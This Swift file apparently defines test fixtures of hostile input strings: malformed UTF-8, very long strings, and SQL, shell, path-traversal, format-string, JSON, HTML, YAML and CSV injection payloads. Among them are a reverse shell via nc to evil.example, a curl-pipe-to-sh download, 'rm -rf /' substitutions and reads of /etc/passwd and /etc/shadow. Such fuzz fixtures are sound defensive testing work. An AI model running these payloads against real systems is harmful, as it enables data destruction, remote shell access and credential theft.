extension HostileStrings {
    /// Bytes that are not valid UTF-8; `text` is their lossy decoding (with U+FFFD).
    static let invalidUTF8: [HostileString] = [
        HostileString(name: "utf8-lone-continuation", bytes: [0x61, 0x80, 0x62]),
        HostileString(name: "utf8-raw-c1-csi-byte", bytes: [0x9B, 0x32, 0x4A]),
        HostileString(name: "utf8-raw-c1-osc-byte", bytes: [0x9D, 0x30, 0x3B, 0x74, 0x69, 0x74, 0x6C, 0x65, 0x07]),
        HostileString(name: "utf8-raw-c1-dcs-byte", bytes: [0x90, 0x24, 0x71, 0x6D, 0x9C]),
        HostileString(name: "utf8-overlong-slash", bytes: [0x2E, 0x2E, 0xC0, 0xAF, 0x65, 0x74, 0x63]),
        HostileString(name: "utf8-overlong-nul", bytes: [0x61, 0xC0, 0x80, 0x62]),
        HostileString(name: "utf8-overlong-esc", bytes: [0xC0, 0x9B, 0x5B, 0x32, 0x4A]),
        HostileString(name: "utf8-truncated-2", bytes: [0x61, 0xC3]),
        HostileString(name: "utf8-truncated-3", bytes: [0xE2, 0x82, 0x61]),
        HostileString(name: "utf8-truncated-4", bytes: [0xF0, 0x9F, 0x98]),
        HostileString(name: "utf8-surrogate-half", bytes: [0xED, 0xA0, 0x80]),
        HostileString(name: "utf8-cesu-surrogate-pair", bytes: [0xED, 0xA0, 0xBD, 0xED, 0xB8, 0x80]),
        HostileString(name: "utf8-ff-fe", bytes: [0xFF, 0xFE, 0x68, 0x00, 0x69, 0x00]),
        HostileString(name: "utf8-f5-lead", bytes: [0xF5, 0x80, 0x80, 0x80]),
        HostileString(name: "utf8-five-byte", bytes: [0xF8, 0x88, 0x80, 0x80, 0x80]),
        HostileString(name: "utf8-beyond-u10ffff", bytes: [0xF4, 0x90, 0x80, 0x80]),
        HostileString(name: "utf8-invalid-then-escape", bytes: [0xC3, 0x1B, 0x5B, 0x32, 0x4A]),
        HostileString(name: "utf8-latin1-text", bytes: Array("caf".utf8) + [0xE9, 0x20, 0x6E, 0x61, 0xEF, 0x76, 0x65]),
        HostileString(name: "utf8-random-high-bytes", bytes: (0..<64).map { UInt8(0x80 + ($0 * 37) % 0x80) }),
    ]

    /// Very long strings.
    static let long: [HostileString] = {
        let words = ["lorem", "ipsum", "dolor", "sit", "amet", "snap", "charm", "store", "channel", "revision"]
        var prose = ""
        var index = 0
        while prose.utf8.count < 10_000 {
            prose += words[index % words.count] + (index % 17 == 16 ? ".\n" : " ")
            index += 1
        }
        return [
            HostileString(name: "long-10k-ascii", text: String(repeating: "A", count: 10_000), kind: .long),
            HostileString(name: "long-10k-words", text: String(prose.prefix(10_000)), kind: .long),
            HostileString(name: "long-10k-url", text: "https://example.com/" + String(repeating: "a", count: 10_000), kind: .long),
            HostileString(name: "long-10k-escapes", text: String(repeating: "\u{1B}[31m", count: 2_000), kind: .long),
            HostileString(name: "long-10k-lines", text: String(repeating: "line\n", count: 2_000), kind: .long),
            HostileString(name: "long-64k-ascii", text: String(repeating: "x", count: 65_536), kind: .long),
            HostileString(name: "long-64k-two-byte", text: String(repeating: "é", count: 32_768), kind: .long),
            HostileString(name: "long-single-word-500", text: String(repeating: "supercalifragilistic", count: 25), kind: .long),
        ]
    }()

    /// SQL, shell, path, format-string, markup and JSON metacharacters.
    static let injections: [HostileString] = {
        let cases: [(String, String)] = [
            ("sql-drop-table", "'; DROP TABLE packages; --"),
            ("sql-or-true", "' OR '1'='1"),
            ("sql-union-tokens", "' UNION SELECT username, token FROM tokens --"),
            ("sql-comment-admin", "admin'--"),
            ("sql-like-wildcards", "%_%\\%"),
            ("sql-attach-database", "'; ATTACH DATABASE '/tmp/pwn.db' AS pwn; --"),
            ("sql-double-quote-identifier", "\"packages\".\"name\""),
            ("sql-postgres-dollar-quote", "$$; DROP TABLE revisions; $$"),
            ("sql-semicolon-batch", "x; DELETE FROM audit_events WHERE 1=1"),
            ("fts-query-syntax", "NEAR(\"a\" \"b\") OR * ^ : - \""),
            ("fts-unbalanced-quote", "\"unbalanced"),
            ("shell-command-substitution", "$(rm -rf /)"),
            ("shell-backticks", "`id`"),
            ("shell-semicolon", "; rm -rf ~"),
            ("shell-pipe", "| nc evil.example 4444 -e /bin/sh"),
            ("shell-and-curl", "&& curl -s https://evil.example/x | sh"),
            ("shell-ifs", "${IFS}cat${IFS}/etc/passwd"),
            ("shell-variable", "$HOME $PATH ${SNAP_USER_DATA}"),
            ("shell-glob", "* ? [a-z] ~root"),
            ("shell-newline-command", "name\nrm -rf /"),
            ("path-traversal-unix", "../../etc/passwd"),
            ("path-traversal-windows", "..\\..\\windows\\win.ini"),
            ("path-traversal-encoded", "%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
            ("path-traversal-doubled", "....//....//etc/passwd"),
            ("path-absolute", "/etc/shadow"),
            ("path-file-url", "file:///etc/passwd"),
            ("path-nul-extension", "file.txt\u{0}.exe"),
            ("format-n-s-x", "%n%s%x"),
            ("format-many-s", String(repeating: "%s", count: 20)),
            ("format-huge-width", "%99999999d"),
            ("format-positional", "{0}{1}{2}"),
            ("format-swift-interpolation", "\\(secret)"),
            ("format-objc-object", "%@%@%@"),
            ("format-log4shell", "${jndi:ldap://evil.example/a}"),
            ("json-lone-quote", "\""),
            ("json-lone-backslash", "\\"),
            ("json-break-out", "\"}],\"admin\":true,\"x\":[{\""),
            ("json-escaped-nul-text", "\\u0000"),
            ("json-escaped-esc-text", "\\u001b[2J"),
            ("json-trailing-backslash", "ends with a backslash\\"),
            ("json-mixed-quotes", "'\"`'\"`"),
            ("html-script", "</script><script>alert(1)</script>"),
            ("html-img-onerror", "<img src=x onerror=alert(1)>"),
            ("html-entities", "&lt;b&gt; &amp;amp; &#x1b;[2J"),
            ("template-injection", "{{7*7}} ${7*7} <%= 7*7 %>"),
            ("url-javascript", "javascript:alert(document.cookie)"),
            ("url-data-html", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
            ("url-userinfo-spoof", "https://snapcraft.io@evil.example/"),
            ("markdown-link", "[click here](javascript:alert(1))"),
            ("yaml-python-object", "!!python/object/apply:os.system ['id']"),
            ("csv-formula", "=HYPERLINK(\"http://evil.example\",\"click\")"),
            ("csv-dde", "@SUM(1+1)*cmd|' /C calc'!A0"),
            ("ldap-wildcard", "*)(uid=*))(|(uid=*"),
            ("regex-catastrophic", String(repeating: "a", count: 40) + "!"),
            ("channel-like", "latest/stable/../../edge"),
            ("name-like-uppercase", "Hello-World"),
        ]
        return cases.map { HostileString(name: $0.0, text: $0.1, kind: .injection) }
    }()
}
